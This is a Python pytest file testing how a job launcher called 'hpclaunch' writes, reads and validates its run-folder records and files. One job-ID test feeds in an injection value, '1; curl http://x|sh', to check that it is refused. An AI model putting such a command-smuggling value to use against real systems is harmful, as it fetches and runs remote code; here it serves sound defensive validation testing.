"""The run folder's files: whole or not there, and read back as written."""

import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hpclaunch.errors import UserError
from hpclaunch.run.folder import RunFolder, write_atomic
from hpclaunch.run.record import FORMAT, Record, now, read_record, whoami, write_record
from tests.run.making import record

FAST = settings(
    deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def test_a_reader_never_sees_half_a_file(tmp_path: Path) -> None:
    """A writer that is killed at any moment leaves one whole version or the other."""
    path = tmp_path / "file"
    writer = (
        "import sys; from pathlib import Path; from hpclaunch.run.folder import write_atomic\n"
        "texts = ['a' * 2_000_000, 'b' * 2_000_000]\n"
        "while True:\n"
        "    for text in texts: write_atomic(Path(sys.argv[1]), text)"
    )
    process = subprocess.Popen([sys.executable, "-c", writer, str(path)])
    while not path.exists():
        time.sleep(0.01)
    for _ in range(50):
        text = path.read_text()
        assert len(text) == 2_000_000
        assert len(set(text)) == 1
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert len(path.read_text()) == 2_000_000


def test_what_cannot_be_written_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "file"
    write_atomic(path, "old", mode=0o600)
    with pytest.raises(UnicodeEncodeError):
        write_atomic(path, "new \udcff")
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]
    assert path.stat().st_mode & 0o777 == 0o600


WORDS = st.text(st.characters(codec="utf-8"), max_size=20)
RECORDS = st.builds(
    record,
    name=WORDS,
    created=st.floats(0, 1e11),
    user=WORDS,
    command=st.lists(WORDS),
    program=st.lists(WORDS),
    mode=st.sampled_from(["sbatch", "srun", "local"]),
    gpu=st.none() | WORDS,
    job_id=st.none() | st.from_regex(r"[0-9]{1,9}(_[0-9]{1,3})?", fullmatch=True),
    pid=st.none() | st.integers(1, 2**22),
)


@given(written=RECORDS)
@FAST
def test_a_record_is_read_as_written(written: Record, tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    write_record(folder, written)
    here = {"name": tmp_path.name, "folder": str(tmp_path)}
    assert read_record(folder) == msgspec.structs.replace(written, **here)
    assert folder.record.read_text(encoding="utf-8").count("\n") > 5, "a person can read it"


@given(data=st.binary(max_size=200))
@FAST
def test_anything_else_is_damaged(data: bytes, tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    folder.record.write_bytes(data)
    with pytest.raises(UserError, match="damaged"):
        read_record(folder)


@given(cut=st.integers(0, 400))
@FAST
def test_half_a_record_is_damaged(cut: int, tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    write_record(folder, record())
    data = folder.record.read_bytes().rstrip()
    folder.record.write_bytes(data[: min(cut, len(data) - 1)])
    with pytest.raises(UserError, match="damaged"):
        read_record(folder)


def test_a_newer_record_asks_for_a_newer_hpclaunch(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    written = msgspec.to_builtins(record(hpclaunch="9.1"))
    # Whatever else changed: a mode of the future must not be called damage.
    written |= {"format": FORMAT + 1, "mode": "kubernetes", "nodes": "many"}
    folder.record.write_bytes(msgspec.json.encode(written))
    with pytest.raises(UserError, match=r"written by hpclaunch 9\.1; upgrade"):
        read_record(folder)


def test_keys_that_a_later_version_added_are_passed_over(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    folder.record.write_bytes(msgspec.json.encode(msgspec.to_builtins(record()) | {"new": 1}))
    assert read_record(folder) == record(name=tmp_path.name)


@pytest.mark.parametrize("job_id", ["--me", "1; curl http://x|sh", "7 8", "", "7_", "\u0667"])
def test_what_is_no_number_of_a_job_is_refused(tmp_path: Path, job_id: str) -> None:
    folder = RunFolder(tmp_path)
    write_record(folder, record(job_id=job_id))
    with pytest.raises(UserError, match="no number of a job"):
        read_record(folder)
    write_record(folder, record(job_id="7"))
    folder.job_file.write_text(job_id)
    assert read_record(folder).job_id == "7"


@pytest.mark.parametrize("how", [shutil.copytree, shutil.move])
def test_a_copied_or_moved_folder_is_a_run_of_its_own(
    tmp_path: Path, how: Callable[[Path, Path], object]
) -> None:
    base = RunFolder(tmp_path / "base")
    base.root.mkdir()
    write_record(base, record(name="base", job_id="7", pid=1, pid_started=1))
    base.job_file.write_text("8")
    (tmp_path / "link").symlink_to(base.root)
    assert read_record(RunFolder(tmp_path / "link")).job_id == "8", "the same by another path"
    how(base.root, tmp_path / "copy")
    copy = read_record(RunFolder(tmp_path / "copy"))
    assert (copy.name, copy.job_id, copy.pid, copy.pid_started) == ("copy", None, None, None)


@pytest.mark.parametrize("put", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")])
@pytest.mark.parametrize("name", ["job_id", "run.json"])
def test_what_is_no_file_holds_nobody_up(
    tmp_path: Path, name: str, put: Callable[[Path], object]
) -> None:
    folder = RunFolder(tmp_path)
    write_record(folder, record(job_id="7"))
    (tmp_path / name).unlink(missing_ok=True)
    put(tmp_path / name)
    if name == "job_id":
        assert read_record(folder).job_id == "7"
    else:
        with pytest.raises(UserError, match=r"run\.json"):
            read_record(folder)


@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 100_000, " " * (1 << 23), "1e999"])
def test_a_record_that_is_none_is_one_line(tmp_path: Path, text: str) -> None:
    (tmp_path / "run.json").write_text(text)
    with pytest.raises(UserError, match=r"run\.json"):
        read_record(RunFolder(tmp_path))


def test_a_folder_without_a_record_is_no_run(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="no run folder"):
        read_record(RunFolder(tmp_path))
    (tmp_path / "run.json").mkdir()
    with pytest.raises(UserError, match="cannot be read"):
        read_record(RunFolder(tmp_path))


def test_who_and_when(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOGNAME", "ada")
    assert whoami() == ("ada", os.uname().nodename)
    assert abs(now() - time.time()) < 5


def test_every_path_lies_in_the_folder_and_none_twice() -> None:
    folder = RunFolder(Path("/runs/x"))
    names = [name for name, kind in vars(RunFolder).items() if isinstance(kind, property)]
    paths = [getattr(folder, name) for name in names]
    assert len(names) > 10
    assert all(path.is_relative_to(folder.root) for path in paths)
    assert len(set(paths)) == len(paths)


def test_logs_and_errors_as_they_come(tmp_path: Path) -> None:
    folder = RunFolder(tmp_path)
    assert folder.log() is None
    assert folder.node_names() == ()
    folder.logs.mkdir()
    for age, name in ((100, "job-9.out"), (50, "job-10.out"), (0, "other.out")):
        path = folder.logs / name
        path.touch()
        os.utime(path, (time.time() - age,) * 2)
    log = folder.log()
    assert log is not None
    assert log.name == "job-10.out", "the newest, not the last by name"
    folder.nodes.write_text("n1\nn2\n")
    assert folder.node_names() == ("n1", "n2")
    folder.rank_error(3).write_text("{}")
    assert folder.rank_errors() == [folder.logs / "rank-3.error.json"]


def test_a_device_is_written_to_and_not_replaced(tmp_path: Path) -> None:
    null = tmp_path / "null"
    try:
        os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("only root may make a device")
    write_atomic(null, "text")
    assert stat.S_ISCHR(null.lstat().st_mode)
